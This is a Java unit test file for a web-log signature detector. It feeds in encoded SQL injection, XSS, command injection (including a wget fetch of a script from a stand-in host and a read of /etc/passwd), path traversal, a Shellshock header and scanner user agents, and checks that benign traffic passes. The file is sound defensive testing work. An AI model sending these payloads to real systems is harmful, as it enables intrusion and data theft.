@@ -1,0 +1,219 @@
+package io.proxywatch.detect;
+
+import io.proxywatch.record.LogRecord;
+import io.proxywatch.rules.RulesError;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.snakeyaml.engine.v2.api.Load;
+import org.snakeyaml.engine.v2.api.LoadSettings;
+
+import java.io.InputStream;
+import java.util.List;
+import java.util.Map;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+class SignatureDetectorTest {
+    private static final Map<String, String> SEVERITIES = Map.of(
+            "sqli", "high", "xss", "high", "cmd_injection", "high", "path_traversal", "high",
+            "sensitive_path", "warning", "scanner", "warning");
+
+    /** The default rules, as packaged. */
+    private static final SignatureDetector DEFAULTS = new SignatureDetector(defaultRules());
+
+    static List<SignatureRule> defaultRules() {
+        try (InputStream in = SignatureDetectorTest.class.getResourceAsStream("/rules.yaml")) {
+            @SuppressWarnings("unchecked")
+            Map<String, Object> doc = (Map<String, Object>) new Load(LoadSettings.builder().build()).loadFromInputStream(in);
+            @SuppressWarnings("unchecked")
+            Map<String, Object> sev = (Map<String, Object>) doc.get("severities");
+            Map<String, String> severities = new java.util.HashMap<>();
+            sev.forEach((k, v) -> severities.put(k, String.valueOf(v)));
+            return SignatureRule.fromYaml((List<?>) doc.get("signatures"), severities, "signatures");
+        } catch (java.io.IOException e) {
+            throw new java.io.UncheckedIOException(e);
+        }
+    }
+
+    private static List<SignatureRule> parse(String yaml) {
+        Object doc = new Load(LoadSettings.builder().build()).loadFromString(yaml);
+        return SignatureRule.fromYaml((List<?>) doc, SEVERITIES, "signatures");
+    }
+
+    private static LogRecord access(String path, String query, String userAgent, String referer) {
+        LogRecord r = new LogRecord();
+        r.setStatus(200);
+        r.setMethod("GET");
+        r.setPath(path);
+        r.setQuery(query);
+        r.setUserAgent(userAgent);
+        if (referer != null) {
+            r.getFields().put("referer", referer);
+        }
+        return r;
+    }
+
+    private static final String BROWSER =
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
+
+    @ParameterizedTest(name = "{0}: {1} ?{2}")
+    @CsvSource(delimiter = '|', nullValues = "-", value = {
+            "sqli           | /items         | id=1%27%20UNION%20ALL%20SELECT%20NULL,password%20FROM%20users--",
+            "sqli           | /login         | user=admin%27%20or%20%27a%27=%27a",
+            "sqli           | /items         | id=1;DROP%20TABLE%20users",
+            "sqli           | /items         | id=1%20AND%20SLEEP(5)",
+            "sqli           | /items         | q=x%27)%20waitfor%20delay%20%270:0:5%27--",
+            "sqli           | /items         | id=1/**/UnIoN/**/sElEcT/**/1,2",
+            "xss            | /search        | q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "xss            | /search        | q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+            "xss            | /search        | next=JaVaScRiPt:alert(document.cookie)",
+            "xss            | /search        | q=%26lt;svg/onload=confirm(1)%26gt;",
+            "cmd_injection  | /ping          | host=127.0.0.1;cat%20/etc/passwd",
+            "cmd_injection  | /ping          | host=127.0.0.1%7C%7Cwget%20http://x.example/a.sh",
+            "cmd_injection  | /ping          | host=$(whoami)",
+            "cmd_injection  | /ping          | host=%60id%60",
+            "cmd_injection  | /ping          | host=x;cat${IFS}/etc/hosts",
+            "path_traversal | /download      | file=..%2f..%2f..%2fetc%2fpasswd",
+            "path_traversal | /download      | file=%252e%252e%255cwindows%255cwin.ini",
+            "path_traversal | /static/%c0%ae%c0%ae/%c0%ae%c0%ae/secret | -",
+            "sensitive_path | /.env          | -",
+            "sensitive_path | /.git/config   | -",
+            "sensitive_path | /wp-login.php  | -",
+            "sensitive_path | /backup/db.sql.gz | -",
+            "sensitive_path | /actuator/env  | -"})
+    void eachCategoryIsFound(String category, String path, String query) {
+        Finding f = DEFAULTS.check(access(path, query, BROWSER, null));
+        assertThat(f).as("finding").isNotNull();
+        assertThat(f.category()).isEqualTo(category);
+    }
+
+    @Test
+    void scannerUserAgentsAreFound() {
+        for (String ua : List.of("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
+                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3",
+                "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Nuclei - Open-source project)", "WPScan v3.8")) {
+            Finding f = DEFAULTS.check(access("/", null, ua, null));
+            assertThat(f).as(ua).isNotNull();
+            assertThat(f.category()).as(ua).isEqualTo("scanner");
+        }
+    }
+
+    @Test
+    void attacksInHeadersAreFound() {
+        assertThat(DEFAULTS.check(access("/", null, "() { :;}; /bin/bash -c 'id'", null))).isNotNull();
+        assertThat(DEFAULTS.check(access("/", null, BROWSER, "https://x.example/?q=<script>alert(1)</script>")))
+                .isNotNull();
+    }
+
+    @ParameterizedTest(name = "{0} ?{1}")
+    @CsvSource(delimiter = '|', nullValues = "-", value = {
+            "/images/logo.png                     | -",
+            "/blog/2015/05/how-to-select-a-router | -",
+            "/search                              | q=rock+and+roll&page=2",
+            "/search                              | q=union+station+chicago",
+            "/search                              | q=cat+pictures&sort=date",
+            "/products                            | category=cat&id=42&order=price",
+            "/api/items                           | ids=1,2,3&fields=name,price",
+            "/docs/select-from-where.html         | -",
+            "/feed                                | utm_source=feedburner&utm_medium=feed&utm_campaign=Feed:+main",
+            "/.well-known/acme-challenge/abc      | -",
+            "/files/app-1.2.tar.gz                | -",
+            "/login                               | next=%2Faccount%2Fsettings",
+            "/search                              | q=O%27Brien",
+            "/wiki/Main_Page                      | action=edit&section=2"})
+    void ordinaryTrafficIsNotFlagged(String path, String query) {
+        assertThat(DEFAULTS.check(access(path, query, BROWSER, "https://www.google.com/search?q=router+setup")))
+                .isNull();
+    }
+
+    @Test
+    void ordinaryUserAgentsAreNotFlagged() {
+        for (String ua : List.of(BROWSER, "curl/8.4.0", "Wget/1.21.3", "python-requests/2.31.0",
+                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+                "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)",
+                "Mozilla/5.0 (Windows; U; Windows NT 5.1; nl; rv:1.9.2) Gecko/20100115 Firefox/3.6")) {
+            assertThat(DEFAULTS.check(access("/", null, ua, null))).as(ua).isNull();
+        }
+    }
+
+    @Test
+    void theMostSevereMatchWinsAndTiesGoToTheFirstInFileOrder() {
+        List<SignatureRule> rules = parse("""
+                - {id: probe, category: sensitive_path, in: [path], pattern: 'admin'}
+                - {id: first-high, category: sqli, in: [query], pattern: 'union'}
+                - {id: second-high, category: xss, in: [query], pattern: 'script'}
+                - {id: crit, category: cmd_injection, in: [user_agent], pattern: 'bash', severity: critical}
+                """);
+        SignatureDetector d = new SignatureDetector(rules);
+
+        assertThat(d.check(access("/admin", "q=union+script", "x", null)))
+                .isEqualTo(new Finding("first-high", "sqli", "high"));
+        assertThat(d.check(access("/admin", "q=script+union", "bash", null)))
+                .isEqualTo(new Finding("crit", "cmd_injection", "critical"));
+        assertThat(d.check(access("/admin", null, "x", null)))
+                .isEqualTo(new Finding("probe", "sensitive_path", "warning"));
+    }
+
+    @Test
+    void aRuleLooksOnlyAtItsFields() {
+        SignatureDetector d = new SignatureDetector(parse("- {id: r, category: xss, in: [referer], pattern: '<x'}"));
+        assertThat(d.check(access("/<x", "a=<x", "<x", null))).isNull();
+        assertThat(d.check(access("/", null, null, "http://e.example/<x"))).isNotNull();
+    }
+
+    @Test
+    void recordsThatAreNotAccessLinesAreIgnored() {
+        LogRecord r = access("/?q=<script>", "q=<script>", "sqlmap", null);
+        r.setStatus(null);
+        assertThat(DEFAULTS.check(r)).isNull();
+    }
+
+    @Test
+    void aRuleWithoutSeverityTakesItsCategoryDefault() {
+        List<SignatureRule> rules = parse("""
+                - {id: a, category: scanner, in: [user_agent], pattern: 'x'}
+                - {id: b, category: scanner, in: [user_agent], pattern: 'y', severity: High}
+                """);
+        assertThat(rules).extracting(SignatureRule::severity).containsExactly("warning", "high");
+        assertThat(rules.get(0).targets()).containsExactly(SignatureRule.Target.USER_AGENT);
+    }
+
+    @ParameterizedTest(name = "{1}")
+    @CsvSource(delimiter = '|', value = {
+            "- {id: a, category: sqli, in: [query], pattern: 'x'}\\n- {id: b, category: sqli, in: [query], pattern: '(unclosed'} | signatures[1].pattern",
+            "- {id: a, category: sqli, in: [query], pattern: 'x'}\\n- {id: a, category: xss, in: [query], pattern: 'y'}         | signatures[1].id",
+            "- {id: a, category: sqlinjection, in: [query], pattern: 'x'}                                                        | signatures[0].category",
+            "- {id: a, category: sqli, in: [body], pattern: 'x'}                                                                 | signatures[0].in[0]",
+            "- {id: a, category: sqli, pattern: 'x'}                                                                             | signatures[0].in",
+            "- {id: a, category: sqli, in: [query]}                                                                              | signatures[0].pattern",
+            "- {id: a, category: sqli, in: [query], pattern: 'UNION'}                                                            | signatures[0].pattern",
+            "- {id: a, category: sqli, in: [query], pattern: 'x', severity: urgent}                                              | signatures[0].severity",
+            "- {id: a, category: sqli, in: [query], pattern: 'x', where: path}                                                   | signatures[0].where",
+            "- just-a-string                                                                                                     | signatures[0]"})
+    void mistakesInTheRulesFileNameThePlace(String yaml, String where) {
+        assertThatThrownBy(() -> parse(yaml.replace("\\n", "\n")))
+                .isInstanceOf(RulesError.class)
+                .hasMessageStartingWith(where + ":");
+    }
+
+    @Test
+    void anInvalidRegexSaysWhatIsWrong() {
+        assertThatThrownBy(() -> parse("- {id: a, category: sqli, in: [query], pattern: 'a(b'}"))
+                .isInstanceOf(RulesError.class)
+                .hasMessageContaining("signatures[0].pattern")
+                .hasMessageContaining("Unclosed group");
+    }
+
+    @Test
+    void theLiteralPreCheckIsConservative() {
+        // the literals each rule is pre-checked on must occur in every text the rule matches
+        assertThat(SignatureDetector.RequiredLiterals.of("union[ (]*+(?:all)?[ (]*+select")).contains("select");
+        assertThat(SignatureDetector.RequiredLiterals.of("\\.{2,3}[/\\\\]")).containsExactly("..");
+        assertThat(SignatureDetector.RequiredLiterals.of("(?:cat|id) /")).containsExactlyInAnyOrder("cat /", "id /");
+        assertThat(SignatureDetector.RequiredLiterals.of("a|b*")).isNull();       // b* matches the empty string
+        assertThat(SignatureDetector.RequiredLiterals.of("\\w+=\\d")).isNotEmpty(); // '=' at least
+        assertThat(SignatureDetector.RequiredLiterals.of("(?x) u n i o n")).isNull(); // comments mode: not read
+    }
+}
